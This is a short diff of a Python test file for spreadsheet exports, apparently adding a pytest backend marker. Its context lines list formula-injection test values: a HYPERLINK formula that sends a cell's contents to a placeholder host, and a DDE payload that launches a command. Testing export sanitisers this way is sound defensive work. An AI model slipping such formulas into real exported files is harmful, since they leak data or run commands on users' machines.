@@ -14,6 +14,8 @@ from resilient.ops import exports
 from tests.conftest import NOW, TODAY
 from tests.tree import ROOT, source_files
 
+pytestmark = pytest.mark.both_backends
+
 LEAK = '=HYPERLINK("http://x.invalid/?leak="&B3,"点击")'
 HOSTILE = [LEAK, "=1+1", "+1+2", "-3+4", "@SUM(A1)", "#N/A", "=cmd|' /C calc'!A0"]
 
